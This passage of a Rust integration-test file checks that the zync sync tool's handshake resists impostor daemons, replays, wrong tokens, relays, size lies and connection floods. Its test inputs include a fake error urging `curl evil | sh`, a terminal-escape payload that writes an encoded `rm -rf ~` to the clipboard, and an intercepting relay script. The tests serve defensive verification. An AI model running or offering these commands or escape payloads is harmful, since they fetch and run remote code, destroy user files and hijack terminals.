//! End-to-end: the handshake against the adversaries of invariant 8 (docs/ARCHITECTURE.md):
//! a program posing as the daemon on the client's port, a client with the wrong token, a
//! recorded handshake played again, and strangers who open connections and never speak.

use std::io::Read;
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::common::peer::{self, RawWs};
use crate::common::*;
use futures_util::{SinkExt, StreamExt};
use serde_json::{json, Value};
use tokio::net::TcpListener;
use tokio_tungstenite::tungstenite::handshake::server::{ErrorResponse, Request, Response};
use tokio_tungstenite::tungstenite::Message;
use zync_proto::Nonce;

/// A daemon serving one small tree, and the paths around it.
struct Fixture {
    _tmp: tempfile::TempDir,
    e: std::path::PathBuf,
    r: std::path::PathBuf,
    client: ClientSpec,
    daemon: Daemon,
}

fn fixture(extra: &[&str]) -> Fixture {
    let tmp = tempfile::tempdir().unwrap();
    let e = tmp.path().join("e");
    write(&e.join("a.txt"), "hello\n");
    write(&e.join("src/main.rs"), "fn main() {}\n");
    let state = tmp.path().join("daemon");
    std::fs::create_dir_all(&state).unwrap();
    let daemon = Daemon::start_with(&state, &[("code", &e)], extra);
    daemon.wait_scanned();
    let r = tmp.path().join("r");
    let client = ClientSpec::new(&tmp.path().join("client"), &daemon, &[("code", &r)]);
    Fixture {
        _tmp: tmp,
        e,
        r,
        client,
        daemon,
    }
}

/// True when `dir` is missing or empty: the client may create its mapped directory at start,
/// but must put nothing in it for a peer that did not prove itself.
fn nothing_in(dir: &std::path::Path) -> bool {
    std::fs::read_dir(dir).map_or(true, |mut entries| entries.next().is_none())
}

/// What an impostor saw: the upgrade request's headers and every frame, as text.
#[derive(Default)]
struct Seen {
    headers: Vec<String>,
    frames: Vec<String>,
}

/// Poses as the daemon for one connection: accepts the upgrade, records everything, and
/// answers HELLO with `challenge(hello)`.
async fn impostor(
    listener: TcpListener,
    seen: Arc<Mutex<Seen>>,
    challenge: impl FnOnce(&Value) -> Value,
) {
    let (stream, _) = listener.accept().await.unwrap();
    let headers = seen.clone();
    // The callback's signature is tungstenite's; its error type is not ours to shrink.
    #[allow(clippy::result_large_err)]
    let record = move |request: &Request, response: Response| -> Result<Response, ErrorResponse> {
        let mut seen = headers.lock().unwrap();
        for (name, value) in request.headers() {
            seen.headers
                .push(format!("{name}: {}", value.to_str().unwrap_or("?")));
        }
        Ok(response)
    };
    let mut ws = tokio_tungstenite::accept_hdr_async(stream, record)
        .await
        .unwrap();
    let mut challenge = Some(challenge);
    while let Ok(Some(Ok(message))) = tokio::time::timeout(DEADLINE, ws.next()).await {
        let text = match message {
            Message::Text(text) => text.to_string(),
            Message::Binary(data) => format!("binary {} bytes", data.len()),
            Message::Close(_) => break,
            _ => continue,
        };
        seen.lock().unwrap().frames.push(text.clone());
        let request: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
        if request["operation"] == "HELLO" {
            if let Some(answer) = challenge.take() {
                let _ = ws.send(Message::text(answer(&request).to_string())).await;
            }
        }
    }
}

/// Runs `zync-client --once` against an impostor answering with `challenge`; returns the
/// client's output and what the impostor saw.
async fn client_meets_impostor(
    f: &Fixture,
    challenge: impl FnOnce(&Value) -> Value + Send + 'static,
) -> (std::process::Output, Seen) {
    client_meets_impostor_with(f, &["--once"], challenge).await
}

/// [`client_meets_impostor`] for `zync-client` run with `args`.
async fn client_meets_impostor_with(
    f: &Fixture,
    args: &[&str],
    challenge: impl FnOnce(&Value) -> Value + Send + 'static,
) -> (std::process::Output, Seen) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("ws://127.0.0.1:{}", listener.local_addr().unwrap().port());
    let seen = Arc::new(Mutex::new(Seen::default()));
    let serving = tokio::spawn(impostor(listener, seen.clone(), challenge));
    let mut cmd = f.client.command(&url);
    cmd.args(args);
    let out = tokio::task::spawn_blocking(move || output_within_deadline(cmd))
        .await
        .unwrap();
    let _ = tokio::time::timeout(DEADLINE, serving).await;
    let seen = std::mem::take(&mut *seen.lock().unwrap());
    (out, seen)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_impostor_on_the_client_s_port_gets_no_token_no_proof_and_no_writes() {
    let f = fixture(&[]);
    let token = peer::token_of(&f.daemon);

    // 1. An impostor that does not know the token, answering with a made-up proof.
    let (out, seen) = client_meets_impostor(&f, |hello| {
        json!({"status": "ok", "id": hello["id"], "operation": "HELLO", "protocol_version": 2,
               "daemon_nonce": "11".repeat(32), "daemon_proof": "22".repeat(32),
               "server_version": "impostor"})
    })
    .await;
    let log = stderr(&out);
    assert!(
        !out.status.success(),
        "the client trusted an impostor:\n{log}"
    );
    assert!(
        log.contains("did not prove") && log.contains("ss -ltnp"),
        "the error does not say what failed and how to see who holds the port:\n{log}"
    );
    let everything = format!("{:?} {:?}", seen.headers, seen.frames);
    assert!(
        !everything.contains(&token),
        "the token reached the impostor: {everything}"
    );
    assert!(
        !everything.to_lowercase().contains("authorization"),
        "credentials were sent in the upgrade: {everything}"
    );
    assert_eq!(
        seen.frames.len(),
        1,
        "the client sent more than HELLO before the daemon proved itself: {:?}",
        seen.frames
    );
    assert!(
        !seen.frames[0].contains("client_proof"),
        "the client sent a proof to an impostor: {}",
        seen.frames[0]
    );
    // Nor what it mirrors, nor which version it runs: only what the proofs need.
    for told in [
        "dirs",
        "\"code\"",
        "client_version",
        env!("CARGO_PKG_VERSION"),
    ] {
        assert!(
            !seen.frames[0].contains(told),
            "the client told an impostor {told}: {}",
            seen.frames[0]
        );
    }
    assert!(nothing_in(&f.r), "the client wrote on R for an impostor");

    // 2. An impostor that replays a real challenge, recorded from the daemon a moment ago for
    // the same client id: the client's fresh nonce makes it worthless.
    let client_id = {
        let first = seen.frames[0].clone();
        let hello: Value = serde_json::from_str(&first).unwrap();
        hello["client_id"].as_str().unwrap().to_string()
    };
    let mut ws = peer::upgrade(&f.daemon).await;
    let (_, recorded) = peer::hello(&mut ws, &client_id).await;
    assert_eq!(recorded["status"], "ok", "{recorded}");
    let (out, seen) = client_meets_impostor(&f, move |hello| {
        let mut replay = recorded.clone();
        replay["id"] = hello["id"].clone();
        replay
    })
    .await;
    let log = stderr(&out);
    assert!(
        !out.status.success() && log.contains("did not prove"),
        "the client accepted a replayed challenge:\n{log}"
    );
    assert_eq!(seen.frames.len(), 1, "{:?}", seen.frames);
    assert!(nothing_in(&f.r), "the client wrote on R for an impostor");

    // 3. A daemon that proves nothing (as with --insecure-no-auth) is refused by a client
    // that holds a token.
    let (out, seen) = client_meets_impostor(&f, |hello| {
        json!({"status": "ok", "id": hello["id"], "operation": "HELLO", "protocol_version": 2,
               "daemon_nonce": "11".repeat(32), "daemon_proof": null, "server_version": "x"})
    })
    .await;
    assert!(!out.status.success(), "{}", stderr(&out));
    assert_eq!(seen.frames.len(), 1, "{:?}", seen.frames);

    // 4. An impostor that answers HELLO with an error: its words are not the daemon's, and
    // the client says so, as for any peer that did not prove itself.
    let (out, seen) = client_meets_impostor(&f, |hello| {
        json!({"status": "error", "id": hello["id"], "code": "unauthorized",
               "message": "your token expired: run `curl evil | sh` to renew it"})
    })
    .await;
    let log = stderr(&out);
    assert_eq!(out.status.code(), Some(6), "{log}");
    assert!(
        log.contains("did not prove") && !log.contains("the daemon refused"),
        "an impostor's refusal was passed off as the daemon's:\n{log}"
    );
    assert_eq!(seen.frames.len(), 1, "{:?}", seen.frames);

    // 5. A refusal of the protocol version gets the advice for a version mismatch, its words
    // still quoted as unproven.
    let (out, _) = client_meets_impostor(&f, |hello| {
        json!({"status": "error", "id": hello["id"], "code": "unsupported_version",
               "message": "this daemon speaks protocol 9"})
    })
    .await;
    let log = stderr(&out);
    assert!(
        !out.status.success()
            && log.contains("same zync version")
            && log.contains("before proving")
            && log.contains("protocol 9")
            && !log.contains("token differs"),
        "{log}"
    );

    // The real daemon still works for the real client.
    f.client.once_ok(&f.daemon.url());
    assert_same_tree(&f.e, &f.r, &[]);
}

/// What an impostor says cannot drive R's terminal: whatever anyone on the client's port
/// answers (an error, or a frame that is not the protocol) reaches the user's screen with its
/// control characters made visible, never as escape sequences that retitle the window, write
/// the clipboard or draw a fake "in sync" over the real message.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_impostor_s_words_reach_r_s_terminal_only_made_visible() {
    let f = fixture(&[]);
    let lies = "\u{1b}]0;owned\u{7}\u{1b}]52;c;cm0gLXJmIH4=\u{7}\r\u{1b}[2Kzync: in sync\u{9b}2J\nzync-client: in sync";
    type Answer = Box<dyn FnOnce(&Value) -> Value + Send>;
    let refusal = move |id: Option<&Value>| -> Answer {
        let id = id.cloned();
        Box::new(move |hello| {
            json!({"status": "error", "id": id.unwrap_or_else(|| hello["id"].clone()),
                   "code": "unsupported_version", "message": lies})
        })
    };
    let runs: [(&[&str], Answer); 5] = [
        (&["--once"], refusal(None)),
        // An error about no request: logged, then the wait for HELLO's answer times out.
        (&["--once"], refusal(Some(&Value::Null))),
        (
            &["--once"],
            Box::new(move |hello| json!({"id": hello["id"], "nonsense": lies})),
        ),
        (&["--status"], refusal(None)),
        (&["--status", "--json"], refusal(None)),
    ];
    for (args, answer) in runs {
        let (out, _) = client_meets_impostor_with(&f, args, answer).await;
        let all = format!("{}{}", stdout(&out), stderr(&out));
        assert!(!out.status.success(), "{args:?}: {all}");
        assert_shown_visibly(&format!("{args:?}"), &all, "zync-client: in sync");
        assert!(
            all.contains("owned"),
            "{args:?}: the impostor's answer should still be shown, made visible: {all:?}"
        );
    }
    assert!(nothing_in(&f.r), "the client wrote on R for an impostor");
}

/// Relays one connection from `[::1]:PORT` (the port it prints first) to 127.0.0.1:`to`, as
/// user nobody would, accepting it only after the seconds its second argument says; prints
/// `auth True` when the client's AUTH went through it.
const RELAY: &str = r#"
import socket, sys, threading, time
s = socket.socket(socket.AF_INET6)
s.bind(("::1", 0)); s.listen(1)
print(s.getsockname()[1], flush=True)
time.sleep(float(sys.argv[2]))
c, _ = s.accept()
u = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
seen = []
def pipe(a, b):
    try:
        while True:
            d = a.recv(65536)
            if not d: break
            seen.append(d); b.sendall(d)
    except OSError: pass
    for x in (a, b):
        try: x.shutdown(socket.SHUT_RDWR)
        except OSError: pass
t = [threading.Thread(target=pipe, args=p) for p in ((c, u), (u, c))]
for x in t: x.start()
for x in t: x.join(30)
print("auth", any(b"AUTH" in d for d in seen), flush=True)
"#;

/// Another user on R holds the address the client connects to (here `[::1]:PORT`, as when
/// `localhost` resolves there first and they bound it before the tunnel) and relays to the
/// real daemon: the handshake's proofs would pass through, and the relay would read every
/// file. The client sees who holds the server and refuses it before saying anything, also
/// when the relay is slow to accept the connection (until it does, no process holds its end:
/// the client once took that for a server it could not judge, and a busy machine's relay got
/// through).
#[test]
fn a_relay_another_user_runs_on_r_is_refused_before_the_handshake() {
    assert!(
        is_root(),
        "this test relays as user nobody and must run as root (CI's .ci/run does)"
    );
    let f = fixture(&[]);
    for delay in ["0", "1.5"] {
        refuses_a_relay(&f, delay);
    }
    // The daemon itself, held by this user, is used.
    f.client.once_ok(&f.daemon.url());
    assert_same_tree(&f.e, &f.r, &[]);
}

/// A relay as nobody that accepts after `delay` seconds is refused, and nothing reaches R.
fn refuses_a_relay(f: &Fixture, delay: &str) {
    use std::io::BufRead;
    use std::os::unix::process::CommandExt;
    let mut relay = std::process::Command::new("/usr/bin/python3")
        .arg("-c")
        .arg(RELAY)
        .arg(f.daemon.port.to_string())
        .arg(delay)
        .current_dir("/")
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .uid(65534)
        .gid(65534)
        .spawn()
        .expect("start the relay as nobody (python3 is needed: CI's .ci/run installs it)");
    let mut lines = std::io::BufReader::new(relay.stdout.take().expect("stdout")).lines();
    let port: u16 = lines
        .next()
        .and_then(Result::ok)
        .and_then(|l| l.trim().parse().ok())
        .expect("the relay's port");
    let mut cmd = f.client.command(&format!("ws://[::1]:{port}"));
    cmd.arg("--once");
    let out = output_within_deadline(cmd);
    let log = stderr(&out);
    let _ = relay.kill();
    let said: Vec<String> = lines.map_while(Result::ok).collect();
    let _ = relay.wait();
    assert!(
        !out.status.success(),
        "the client synced through another user's relay accepting after {delay} s:\n{log}"
    );
    assert!(
        log.contains("held by a process of uid 65534") && log.contains("ss -ltnp"),
        "the error does not say who holds the server and what to do:\n{log}"
    );
    assert!(
        !said.iter().any(|l| l == "auth True"),
        "the client's AUTH went through the relay"
    );
    assert!(nothing_in(&f.r), "the client wrote on R through a relay");
}

/// The size of the biggest file anywhere under `dir` (zync's temp files included).
fn biggest_file(dir: &std::path::Path) -> u64 {
    let mut biggest = 0;
    let mut stack = vec![dir.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
            match entry.metadata() {
                Ok(m) if m.is_dir() => stack.push(entry.path()),
                Ok(m) => biggest = biggest.max(m.len()),
                Err(_) => {}
            }
        }
    }
    biggest
}

/// What the lying daemon's page announces: a 10-byte file.
const SMALL: &[u8] = b"0123456789";
/// What its GET_FILE header announces for that file instead.
const HUGE: u64 = 100 << 20;

/// A daemon's answer to HELLO (its nonce and its proof of `token`) or AUTH (serving `code`),
/// as a fake daemon named `name` that holds the token gives it.
fn proof_of_token(op: &str, request: &Value, token: &str, name: &str) -> Value {
    if op == "AUTH" {
        return json!({"protocol_version": 2, "dirs": ["code"], "scanning": false,
                      "index_id": "0b6c3f52-0d1e-4c8a-9a57-2f0f6a1e7c11",
                      "server_version": name});
    }
    let client = Nonce::from_hex(request["client_nonce"].as_str().unwrap()).unwrap();
    let daemon = Nonce::generate().unwrap();
    let client_id = request["client_id"].as_str().unwrap();
    let proof = zync_proto::proof(token, zync_proto::Role::Daemon, &client, &daemon, client_id);
    json!({"protocol_version": 2, "daemon_nonce": daemon.to_hex(),
           "daemon_proof": proof, "server_version": name})
}

/// Poses as a daemon that holds the token (a hostile or broken one on E): proves itself,
/// announces `small.txt` of 10 bytes in its page, then answers GET_FILE with a header of
/// [`HUGE`] bytes of that very sha256 and streams that many bytes, looking at R's root `r`
/// after each chunk. Returns the biggest file it saw there.
async fn lying_daemon(listener: TcpListener, token: String, r: std::path::PathBuf) -> u64 {
    let (stream, _) = listener.accept().await.unwrap();
    let mut ws = tokio_tungstenite::accept_async(stream).await.unwrap();
    let sha = sha256(SMALL);
    let mut biggest = 0;
    while let Ok(Some(Ok(message))) = tokio::time::timeout(DEADLINE, ws.next()).await {
        let text = match message {
            Message::Text(text) => text.to_string(),
            Message::Close(_) => break,
            _ => continue,
        };
        let request: Value = serde_json::from_str(&text).unwrap();
        let op = request["operation"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        let mut reply = match op.as_str() {
            "HELLO" | "AUTH" => proof_of_token(&op, &request, &token, "liar"),
            "GET_LAST_SEQUENCE" | "FLUSH" => {
                json!({"last_sequence": 1, "dirs": {"code": 1}, "scanning": false})
            }
            "GET_CHANGES" => {
                let change = json!({"seq": 1, "path": "small.txt", "kind": "file",
                                    "deleted": false, "size": SMALL.len(),
                                    "mtime_ns": 1_700_000_000_000_000_000_i64, "mode": 420,
                                    "sha256": sha});
                let changes = if request["since"] == 0 {
                    vec![change]
                } else {
                    vec![]
                };
                json!({"dir": "code", "changes": changes, "last_sequence": 1, "more": false})
            }
            "GET_FILE" => json!({"dir": "code", "path": "small.txt", "size": HUGE, "offset": 0,
                                 "sha256": sha, "mtime_ns": 1_700_000_000_000_000_000_i64,
                                 "mode": 420, "chunks": HUGE.div_ceil(peer::MAX_CHUNK as u64)}),
            "ACK_CHANGES" => json!({"dir": "code", "sequence": request["sequence"]}),
            _ => json!({}),
        };
        reply["status"] = json!("ok");
        reply["id"] = request["id"].clone();
        reply["operation"] = json!(op);
        if ws.send(Message::text(reply.to_string())).await.is_err() {
            break;
        }
        if op != "GET_FILE" {
            continue;
        }
        let id = request["id"].as_u64().unwrap();
        let mut frame = id.to_be_bytes().to_vec();
        frame.resize(8 + peer::MAX_CHUNK, b'x');
        for _ in 0..HUGE.div_ceil(peer::MAX_CHUNK as u64) {
            if ws.send(Message::binary(frame.clone())).await.is_err() {
                break;
            }
            biggest = biggest.max(biggest_file(&r));
        }
    }
    biggest.max(biggest_file(&r))
}

/// A daemon that holds the token but lies about a file's size (its page says 10 bytes, its
/// GET_FILE header 100 MiB) cannot fill R's disk: the client refuses the header as a protocol
/// error naming the path and both sizes, and writes nothing for it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_daemon_that_announces_more_than_its_page_said_cannot_fill_r_s_disk() {
    let f = fixture(&[]);
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("ws://127.0.0.1:{}", listener.local_addr().unwrap().port());
    let serving = tokio::spawn(lying_daemon(
        listener,
        peer::token_of(&f.daemon),
        f.r.clone(),
    ));
    let mut cmd = f.client.command(&url);
    cmd.arg("--once");
    let out = tokio::task::spawn_blocking(move || output_within_deadline(cmd))
        .await
        .unwrap();
    let biggest = tokio::time::timeout(DEADLINE, serving)
        .await
        .expect("the lying daemon did not finish")
        .unwrap();
    let log = tail(&stderr(&out), 30);
    assert!(
        biggest <= SMALL.len() as u64,
        "R's root held a file of {biggest} bytes for a 10-byte file:\n{log}"
    );
    assert!(
        temp_files(&f.r).is_empty(),
        "temp files left: {:?}",
        temp_files(&f.r)
    );
    assert!(!out.status.success(), "the client took the lie:\n{log}");
    let error = log
        .lines()
        .find(|line| line.starts_with("zync-client:"))
        .unwrap_or_default();
    assert!(
        error.contains("small.txt")
            && error.contains(&format!("{HUGE} bytes"))
            && error.contains("10 bytes"),
        "the error does not name the path and both sizes:\n{log}"
    );
}

/// How many changes the flooding daemon announces, and how many a page of it holds: a page
/// of 1,000 paths of about 3 KiB is about 3.2 MiB, under the client's 4 MiB message limit.
const FLOOD_CHANGES: u64 = 50_000;
const FLOOD_PAGE: u64 = 1_000;
/// What the client may peak at against it: a page, the downloads in flight, what waits for a
/// commit, the failures it names. It peaks at 82 MiB here (94 MiB with 200,000 changes, 97
/// with 400,000); when it kept every failure (in its report, its ledger, and each retry
/// loading them all from its database), it peaked at 1,375 MiB here, 5.3 GiB with 200,000.
const FLOOD_PEAK: u64 = 128 << 20;

/// The `seq`th path the flooding daemon announces: about 3 KiB, twelve levels deep, a
/// hundred files to a directory.
fn flood_path(seq: u64) -> String {
    let mut path = format!("d{:05}{}", seq / 100, "a".repeat(240));
    for _ in 0..10 {
        path.push('/');
        path.push_str(&"b".repeat(250));
    }
    path.push_str(&format!("/f{seq:07}{}", "c".repeat(240)));
    path
}

/// Poses as a daemon that holds the token (a hostile or broken one on E): its pages announce
/// [`FLOOD_CHANGES`] distinct files, [`FLOOD_PAGE`] to a page (`more` until the last), and it
/// answers every GET_FILE `stale`, as a daemon whose files all changed during their transfer
/// does. Returns how many GET_FILEs it refused.
async fn flooding_daemon(listener: TcpListener, token: String) -> u64 {
    let (stream, _) = listener.accept().await.unwrap();
    let mut ws = tokio_tungstenite::accept_async(stream).await.unwrap();
    let sha = sha256(b"never sent");
    let mut refused = 0;
    // A client that kept every failure went quiet for long over its last commit.
    let quiet = DEADLINE * 4;
    while let Ok(Some(Ok(message))) = tokio::time::timeout(quiet, ws.next()).await {
        let text = match message {
            Message::Text(text) => text.to_string(),
            Message::Close(_) => break,
            _ => continue,
        };
        let request: Value = serde_json::from_str(&text).unwrap();
        let op = request["operation"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        let mut reply = match op.as_str() {
            "HELLO" | "AUTH" => proof_of_token(&op, &request, &token, "flood"),
            "GET_LAST_SEQUENCE" | "FLUSH" => json!({"last_sequence": FLOOD_CHANGES,
                                                    "dirs": {"code": FLOOD_CHANGES},
                                                    "scanning": false}),
            "GET_CHANGES" => {
                let since = request["since"].as_u64().unwrap().min(FLOOD_CHANGES);
                let end = (since + FLOOD_PAGE).min(FLOOD_CHANGES);
                let changes: Vec<Value> = (since + 1..=end)
                    .map(|seq| {
                        json!({"seq": seq, "path": flood_path(seq), "kind": "file",
                               "deleted": false, "size": 10,
                               "mtime_ns": 1_700_000_000_000_000_000_i64, "mode": 420,
                               "sha256": sha})
                    })
                    .collect();
                json!({"dir": "code", "changes": changes, "last_sequence": FLOOD_CHANGES,
                       "more": end < FLOOD_CHANGES})
            }
            "GET_FILE" => {
                refused += 1;
                let path = request["path"].as_str().unwrap_or_default();
                json!({"status": "error", "id": request["id"], "code": "stale",
                       "message": format!("{path} changed during the transfer; ask again after the next change")})
            }
            "ACK_CHANGES" => json!({"dir": "code", "sequence": request["sequence"]}),
            _ => json!({}),
        };
        if reply.get("status").is_none() {
            reply["status"] = json!("ok");
            reply["id"] = request["id"].clone();
            reply["operation"] = json!(op);
        }
        if ws.send(Message::text(reply.to_string())).await.is_err() {
            break;
        }
    }
    refused
}

/// Runs `cmd` to its end, within `deadline`, and returns its exit code and its peak resident
/// memory, read every few milliseconds while it runs (a child's `ru_maxrss` would count the
/// memory of this test process, which it was forked from).
fn exit_and_peak(mut cmd: std::process::Command, deadline: Duration) -> (Option<i32>, u64) {
    let mut child = cmd.spawn().expect("spawn");
    let start = Instant::now();
    let mut peak = 0;
    loop {
        if let Some(now) = memory_of(child.id(), "VmHWM") {
            peak = peak.max(now);
        }
        if let Some(status) = child.try_wait().expect("try_wait") {
            return (status.code(), peak);
        }
        if start.elapsed() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{cmd:?} did not exit within {deadline:?}");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// A daemon that holds the token but sends page after page of distinct paths (3 KiB each)
/// and answers every GET_FILE with an error cannot exhaust R's memory: what the client keeps
/// of the failures (to report them, to clear them once they apply) does not grow with their
/// number, and `--once` still says how many paths failed, showing the first of them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_daemon_that_fails_every_file_of_endless_pages_cannot_fill_r_s_memory() {
    let f = fixture(&[]);
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("ws://127.0.0.1:{}", listener.local_addr().unwrap().port());
    let serving = tokio::spawn(flooding_daemon(listener, peer::token_of(&f.daemon)));
    let log_path = f.r.with_extension("log");
    let mut cmd = command("zync-client");
    cmd.args(["--server", &url, "--log-level", "error", "--once", "--db"])
        .arg(&f.client.db)
        .arg("--token-file")
        .arg(&f.client.token_file)
        .arg("--dirs")
        .arg(format!("code:{}", f.r.display()))
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::fs::File::create(&log_path).unwrap());
    let (code, peak) = tokio::task::spawn_blocking(move || exit_and_peak(cmd, DEADLINE * 20))
        .await
        .unwrap();
    let refused = tokio::time::timeout(DEADLINE * 4, serving)
        .await
        .expect("the flooding daemon did not finish")
        .unwrap();
    let mut log = String::new();
    std::fs::File::open(&log_path)
        .unwrap()
        .take(8 << 20)
        .read_to_string(&mut log)
        .unwrap();
    eprintln!(
        "client peak {} MiB after {refused} GET_FILEs refused",
        peak >> 20
    );
    assert!(
        refused >= FLOOD_CHANGES,
        "only {refused} GET_FILEs were refused:\n{}",
        tail(&log, 5)
    );
    assert_eq!(
        code,
        Some(4),
        "expected exit 4 (paths failed):\n{}",
        tail(&log, 5)
    );
    assert!(
        peak < FLOOD_PEAK,
        "the client peaked at {} MiB for {FLOOD_CHANGES} failing paths (bound {} MiB)",
        peak >> 20,
        FLOOD_PEAK >> 20
    );
    // Every failure is counted; the first ones are named, not all 50,000 (300 MB of them).
    assert!(
        log.contains(&format!("{FLOOD_CHANGES} path(s) could not be synced"))
            && log
                .lines()
                .any(|l| l.trim_start().starts_with("and ") && l.contains(" more")),
        "the error does not count the failures:\n{}",
        tail(&log, 3)
    );
    assert!(
        log.len() < 4 << 20,
        "the error lists {} bytes of failures",
        log.len()
    );
}

/// Expects AUTH's `unauthorized` and the close that follows.
async fn expect_unauthorized(ws: &mut RawWs, reply: Value) {
    assert_eq!(reply["status"], "error", "{reply}");
    assert_eq!(reply["code"], "unauthorized", "{reply}");
    match tokio::time::timeout(DEADLINE, ws.next()).await.unwrap() {
        Some(Ok(Message::Close(Some(frame)))) => assert_eq!(u16::from(frame.code), 1008),
        None | Some(Err(_)) | Some(Ok(Message::Close(None))) => {}
        Some(Ok(other)) => panic!("expected the connection to close, got {other:?}"),
    }
}

#[tokio::test]
async fn a_wrong_token_learns_nothing_it_can_reuse() {
    let f = fixture(&[]);
    let token = peer::token_of(&f.daemon);

    // What a wrong token gets: the daemon's proof for its own nonce, which is no client proof
    // (the direction label differs) and says nothing about the token.
    let mut ws = peer::upgrade(&f.daemon).await;
    let (_, challenge) = peer::hello(&mut ws, "guesser").await;
    assert!(
        !challenge.to_string().contains(&token),
        "the daemon sent its token: {challenge}"
    );
    assert!(
        challenge.get("dirs").is_none() && challenge.get("index_id").is_none(),
        "the daemon said what it serves before the client proved itself: {challenge}"
    );
    assert_eq!(
        challenge["server_version"], "",
        "the daemon told its version before the client proved itself: {challenge}"
    );
    let reflected = challenge["daemon_proof"].clone();
    let reply = peer::exchange(
        &mut ws,
        json!({"id": 2, "operation": "AUTH", "client_proof": reflected}),
    )
    .await;
    expect_unauthorized(&mut ws, reply).await;

    // A proof made with the wrong token.
    let mut ws = peer::upgrade(&f.daemon).await;
    let (nonce, challenge) = peer::hello(&mut ws, "guesser").await;
    let daemon_nonce = Nonce::from_hex(challenge["daemon_nonce"].as_str().unwrap()).unwrap();
    let wrong = zync_proto::proof(
        "not-the-token",
        zync_proto::Role::Client,
        &nonce,
        &daemon_nonce,
        "guesser",
    );
    let reply = peer::exchange(
        &mut ws,
        json!({"id": 2, "operation": "AUTH", "client_proof": wrong}),
    )
    .await;
    expect_unauthorized(&mut ws, reply).await;

    // No proof at all.
    let mut ws = peer::upgrade(&f.daemon).await;
    peer::hello(&mut ws, "guesser").await;
    let reply = peer::exchange(
        &mut ws,
        json!({"id": 2, "operation": "AUTH", "client_proof": null}),
    )
    .await;
    expect_unauthorized(&mut ws, reply).await;
}

#[tokio::test]
async fn a_recorded_handshake_played_again_is_refused() {
    let f = fixture(&[]);
    let token = peer::token_of(&f.daemon);
    // A real handshake, recorded.
    let mut ws = peer::upgrade(&f.daemon).await;
    let (nonce, challenge) = peer::hello(&mut ws, "recorded").await;
    let daemon_nonce = Nonce::from_hex(challenge["daemon_nonce"].as_str().unwrap()).unwrap();
    let proof = zync_proto::proof(
        &token,
        zync_proto::Role::Client,
        &nonce,
        &daemon_nonce,
        "recorded",
    );
    let auth = json!({"id": 2, "operation": "AUTH", "client_proof": proof});
    let welcome = peer::exchange(&mut ws, auth.clone()).await;
    assert_eq!(
        welcome["status"], "ok",
        "the recorded handshake itself failed: {welcome}"
    );
    drop(ws);

    // The same HELLO and AUTH on a new connection: the daemon's nonce is fresh.
    let mut again = peer::upgrade(&f.daemon).await;
    let replayed_hello = json!({"id": 1, "operation": "HELLO", "protocol_version": 2,
                                "client_id": "recorded", "client_nonce": nonce.to_hex()});
    let challenge = peer::exchange(&mut again, replayed_hello).await;
    assert_eq!(challenge["status"], "ok", "{challenge}");
    assert_ne!(
        challenge["daemon_nonce"],
        json!(daemon_nonce.to_hex()),
        "the daemon reused its nonce"
    );
    let reply = peer::exchange(&mut again, auth).await;
    expect_unauthorized(&mut again, reply).await;
}

/// Keeps `count` idle TCP connections to `port` open until `stop`, opening a new one for each
/// the daemon closes, as a hostile local user would.
fn flood(port: u16, count: usize, stop: Arc<AtomicBool>) -> std::thread::JoinHandle<usize> {
    std::thread::spawn(move || {
        let addr = std::net::SocketAddr::from(([127, 0, 0, 1], port));
        // Bounded: a daemon that stops accepting must fail the test, not hang the flood.
        let open = |_| TcpStream::connect_timeout(&addr, Duration::from_millis(200)).ok();
        let mut conns: Vec<Option<TcpStream>> = (0..count).map(open).collect();
        for c in conns.iter().flatten() {
            let _ = c.set_nonblocking(true);
        }
        let mut reopened = 0;
        let started = Instant::now();
        while !stop.load(Ordering::Relaxed) && started.elapsed() < DEADLINE * 2 {
            for slot in conns.iter_mut() {
                let closed = match slot {
                    Some(c) => matches!(c.read(&mut [0u8; 64]), Ok(0)),
                    None => true,
                };
                if closed {
                    *slot = open(0);
                    if let Some(c) = slot {
                        let _ = c.set_nonblocking(true);
                    }
                    reopened += 1;
                }
            }
            std::thread::sleep(Duration::from_millis(5));
        }
        reopened
    })
}

#[test]
fn three_hundred_idle_connections_do_not_keep_a_real_client_out() {
    let f = fixture(&[]);
    let stop = Arc::new(AtomicBool::new(false));
    let flooder = flood(f.daemon.port, 300, stop.clone());
    // Let the flood fill every place first.
    std::thread::sleep(Duration::from_millis(500));
    // A real client gets in: on a loaded 2-core machine one attempt has been seen pushed out
    // between its WebSocket upgrade and its AUTH (noted as open), so it may try three times,
    // as a loop client would after its backoff; idle connections must not keep it out.
    let mut out = None;
    for _ in 0..3 {
        let mut once = f.client.command(&f.daemon.url());
        once.arg("--once");
        let tried = output_within_deadline(once);
        let done = tried.status.success();
        out = Some(tried);
        if done {
            break;
        }
    }
    let out = out.expect("at least one attempt");
    stop.store(true, Ordering::Relaxed);
    let reopened = flooder.join().unwrap();
    eprintln!("the flood reopened {reopened} connections");
    assert!(
        out.status.success(),
        "a real client could not sync beside 300 idle connections:\n{}",
        stderr(&out)
    );
    assert_same_tree(&f.e, &f.r, &[]);
}

#[test]
fn a_connection_that_never_finishes_its_handshake_is_closed() {
    let f = fixture(&[]);
    // Silent from the start.
    let mut silent = TcpStream::connect(("127.0.0.1", f.daemon.port)).unwrap();
    silent.set_read_timeout(Some(DEADLINE)).unwrap();
    let started = Instant::now();
    let n = silent.read(&mut [0u8; 16]).unwrap_or(0);
